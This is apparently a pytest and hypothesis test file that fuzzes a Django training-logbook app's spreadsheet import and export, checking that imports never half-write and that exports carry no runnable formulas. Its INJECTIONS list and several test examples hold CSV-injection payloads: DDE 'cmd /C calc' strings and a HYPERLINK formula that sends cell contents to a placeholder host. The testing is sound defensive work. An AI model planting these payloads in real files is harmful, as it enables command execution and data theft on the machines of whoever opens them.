"""Whatever file a trainer sends, the import answers with messages and never half-writes;
whatever a learner is called, an export never carries a formula a spreadsheet would run."""

import csv
import datetime
import io
import zipfile

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from lms.accounts.models import LearnerProfile, Membership, User
from lms.accounts.names import person_name_clean
from lms.logbook.models import Attendance, Group, TrainingSession
from lms.logbook.transfer import KINDS
from lms.logbook.transfer_cells import CONTROL_CHARACTERS, FORMULA_STARTS, cell_out, cell_text
from lms.logbook.transfer_services import transfer_confirm, transfer_export, transfer_preview
from tests.factories import AssociationFactory, GroupFactory, learner_in, trainer_in

pytestmark = pytest.mark.django_db

FUZZ = settings(
    max_examples=50,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
INJECTIONS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?"&A1,"Cliquez")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "''=1+1",
    "=1+1",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
]
PLAUSIBLE = [
    "",
    "Amina",
    "Jean-Marie",
    "Benali",
    "1984",
    "1899",
    "4000",
    "40000",
    "woman",
    "Femme",
    "newcomer, job_seeker",
    "inconnu",
    "12/03/2026",
    "31/02/2026",
    "2026-03-09",
    "09:30",
    "25:99",
    "12:00",
    "Lundi matin",
    "00000000-0000-0000-0000-000000000000",
    "not-a-uuid",
    "x" * 300,
]
cell = st.one_of(
    st.sampled_from(INJECTIONS),
    st.sampled_from(PLAUSIBLE),
    st.text(max_size=30),
    st.integers(min_value=-(10**12), max_value=10**12).map(str),
)
kind = st.sampled_from(list(KINDS))


@pytest.fixture
def place():
    association = AssociationFactory(name="Les Tilleuls", slug="les-tilleuls")
    trainer = trainer_in(association, display_name="Formatrice")
    GroupFactory(association=association, name="Lundi matin")
    learner_in(association, display_name="Déjà là")
    return association, trainer


def _counts() -> dict[str, int]:
    return {
        "users": User.objects.count(),
        "profiles": LearnerProfile.objects.count(),
        "memberships": Membership.objects.count(),
        "groups": Group.objects.count(),
        "group_learners": Group.learners.through.objects.count(),
        "sessions": TrainingSession.objects.count(),
        "attendances": Attendance.objects.count(),
    }


def _import(place, kind_name: str, data: bytes):
    """Preview then, when the preview is clean, confirm: as a trainer would."""
    association, trainer = place
    before = _counts()
    upload = SimpleUploadedFile("file.csv", data)
    preview = transfer_preview(kind=kind_name, file=upload, association=association, user=trainer)
    assert _counts() == before, "a preview wrote something"
    if preview.has_errors:
        assert preview.messages, "refused without saying why"
        assert all(isinstance(line, str) and line for line in preview.messages)
        # A file is kept only when some rows could go in (if the trainer chooses so)...
        assert bool(preview.token) == (not preview.errors and preview.valid_count > 0)
        if preview.token:
            # ...and all or nothing, the rule unless they choose, still refuses it whole.
            refused = transfer_confirm(
                kind=kind_name, token=preview.token, association=association, user=trainer
            )
            assert not refused.is_committed and refused.messages
            assert _counts() == before, "a refused import left rows behind"
        return preview, None
    result = transfer_confirm(
        kind=kind_name, token=preview.token, association=association, user=trainer
    )
    if not result.is_committed:
        assert _counts() == before, "a refused import left rows behind"
        assert result.messages
    return preview, result


def _csv(rows, *, delimiter: str, encoding: str, bom: bool) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter).writerows(rows)
    text = buffer.getvalue()
    data = text.encode(encoding, errors="replace")
    return (b"\xef\xbb\xbf" + data) if bom and encoding == "utf-8" else data


@st.composite
def table(draw, kind_name: str):
    resource = KINDS[kind_name][0]
    labels = resource.labels()
    header = draw(
        st.one_of(
            st.just(labels),
            st.permutations(labels),
            st.lists(st.one_of(st.sampled_from(labels), cell), max_size=len(labels) + 2),
        )
    )
    width = max(len(header), 1)
    rows = draw(st.lists(st.lists(cell, min_size=0, max_size=width + 1), max_size=6))
    return [list(header), *rows]


@st.composite
def csv_upload(draw):
    kind_name = draw(kind)
    rows = draw(table(kind_name))
    data = _csv(
        rows,
        delimiter=draw(st.sampled_from([";", ",", "\t", "|"])),
        encoding=draw(st.sampled_from(["utf-8", "utf-8", "cp1252", "latin-1", "utf-16"])),
        bom=draw(st.booleans()),
    )
    return kind_name, data


@FUZZ
@given(upload=csv_upload())
@example(upload=("learners", "Prénom ou surnom\r\n=cmd|' /C calc'!A0\r\n".encode()))
@example(upload=("learners", "\ufeffPrénom ou surnom;Nom\r\nA;B\r\n".encode("utf-16")))
def test_any_csv_file_is_answered_with_messages_and_never_half_written(place, upload):
    kind_name, data = upload
    with translation.override("fr"):
        _import(place, kind_name, data)


@FUZZ
@given(data=st.binary(max_size=3000), kind_name=kind)
@example(data=b"PK\x03\x04" + b"\x00" * 40, kind_name="learners")
@example(data=b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 40, kind_name="sessions")
@example(data=b"\xef\xbb\xbf", kind_name="groups")
def test_any_bytes_sent_as_a_file_are_refused_or_read_never_half_written(place, data, kind_name):
    _import(place, kind_name, data)


xlsx_cell = st.one_of(
    cell,
    st.integers(min_value=-(10**9), max_value=10**9),
    st.floats(allow_nan=False, allow_infinity=False, width=32),
    st.dates(min_value=datetime.date(1900, 3, 1), max_value=datetime.date(2100, 1, 1)),
    st.times(),
    st.booleans(),
    st.none(),
)


@FUZZ
@given(kind_name=kind, rows=st.lists(st.lists(xlsx_cell, max_size=9), max_size=6), data=st.data())
def test_any_xlsx_file_is_answered_with_messages_and_never_half_written(
    place, kind_name, rows, data
):
    labels = KINDS[kind_name][0].labels()
    header = data.draw(st.one_of(st.just(labels), st.permutations(labels)))
    workbook = openpyxl.Workbook()
    # openpyxl writes a text starting with "=" as a formula: the import gets no value.
    # It cannot write control characters at all, so none are sent this way.
    for row in [header, *rows]:
        workbook.active.append(
            [ILLEGAL_CHARACTERS_RE.sub("", v) if isinstance(v, str) else v for v in row]
        )
    buffer = io.BytesIO()
    workbook.save(buffer)
    _import(place, kind_name, buffer.getvalue())


# --- Exports -----------------------------------------------------------------------------

# Names a form could store: no surrounding spaces, no control character but the tab.
name = st.one_of(
    st.sampled_from(INJECTIONS),
    st.builds(
        "{}{}".format,
        st.sampled_from([*FORMULA_STARTS, "'", "''", "", "A"]),
        st.text(
            st.characters(exclude_categories=("Cc", "Cs"), include_characters="\t;,\"'\n"),
            max_size=20,
        ),
    ),
).map(lambda text: text.strip()[:80])


def _cells(fmt: str, content: bytes) -> list[str]:
    if fmt == "csv":
        text = content.decode("utf-8-sig")
        return [value for row in csv.reader(io.StringIO(text), delimiter=";") for value in row]
    if fmt == "xlsx":
        workbook = openpyxl.load_workbook(io.BytesIO(content))
        values = []
        for row in workbook.active.iter_rows():
            for item in row:
                # No formula cell at all, whatever the names.
                assert item.data_type != "f", item.value
                values.append("" if item.value is None else str(item.value))
        return values
    content_xml = zipfile.ZipFile(io.BytesIO(content)).read("content.xml").decode()
    assert "table:formula" not in content_xml
    return []


@settings(FUZZ, max_examples=30)
@given(names=st.lists(name, min_size=1, max_size=4), fmt=st.sampled_from(["csv", "xlsx", "ods"]))
@example(names=["=cmd|' /C calc'!A0", "@SUM(A1)", "'=1+1"], fmt="csv")
@example(names=["=1+1", "-1", "+33 4 00"], fmt="xlsx")
@example(names=["\x01=1+1", "A\x1fB", "\x7f@x"], fmt="xlsx")
@example(names=["\x01=1+1", "A\x1fB"], fmt="csv")
def test_an_export_never_holds_a_cell_a_spreadsheet_would_run(place, names, fmt):
    association, _trainer = place
    for text in names:
        learner_in(association, display_name=text)
    content, _type, _filename = transfer_export(kind="learners", association=association, fmt=fmt)
    for value in _cells(fmt, content):
        assert not value.startswith(FORMULA_STARTS), value


@FUZZ
@given(text=st.text(max_size=30))
@example(text="''''=1")
@example(text="'" * 5000 + "=1")
def test_the_formula_guard_comes_off_exactly_as_it_went_on(text):
    assert not cell_out(text).startswith(FORMULA_STARTS)
    # Control characters are dropped on the way out; everything else comes back.
    text = CONTROL_CHARACTERS.sub("", text).strip()
    assert cell_text(cell_out(text)) == text


@settings(FUZZ, max_examples=25)
# Names as the application stores them (person_name_clean: NFC, no hidden characters, single
# spaces); a name stored otherwise before that rule comes back cleaned, an update.
@given(names=st.lists(name.map(person_name_clean).filter(bool), min_size=1, max_size=3))
@example(names=["=Amina+1", "'=déjà gardé", "=tab"])
def test_learners_exported_then_imported_come_back_unchanged(place, names):
    association, _trainer = place
    for text in names:
        learner_in(association, display_name=text)
    stored = sorted(
        User.objects.filter(memberships__association=association).values_list("pk", "display_name")
    )
    content, _type, _filename = transfer_export(kind="learners", association=association, fmt="csv")
    _preview, result = _import(place, "learners", content)
    assert result is not None and result.is_committed, _preview.messages
    assert result.totals["new"] == result.totals["update"] == 0
    after = sorted(
        User.objects.filter(memberships__association=association).values_list("pk", "display_name")
    )
    assert after == stored


# --- Through the page --------------------------------------------------------------------


@pytest.fixture
def trainer_client(client, place):
    client.force_login(place[1])
    return client


@settings(FUZZ, max_examples=25)
@given(upload=csv_upload(), name_suffix=st.sampled_from([".csv", ".xlsx", ".ods", ".exe", ""]))
def test_the_import_page_never_fails_whatever_the_file(trainer_client, place, upload, name_suffix):
    kind_name, data = upload
    before = _counts()
    response = trainer_client.post(
        reverse("transfer:import"),
        {
            "association": str(place[0].pk),
            "kind": kind_name,
            "file": SimpleUploadedFile(f"fichier{name_suffix}", data),
        },
    )
    assert response.status_code in {200, 400}
    assert _counts() == before
